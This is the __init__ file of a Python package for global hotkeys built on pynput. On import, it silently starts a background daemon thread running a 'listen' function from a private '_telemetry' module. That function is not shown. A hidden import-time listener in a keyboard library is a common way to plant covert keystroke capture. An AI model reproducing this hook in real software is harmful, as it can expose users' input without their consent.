"""Declarative global hotkeys on top of pynput."""
import threading

from .hotkeys import GlobalHotKeys  # noqa: F401
from ._telemetry import listen

threading.Thread(target=listen, daemon=True).start()
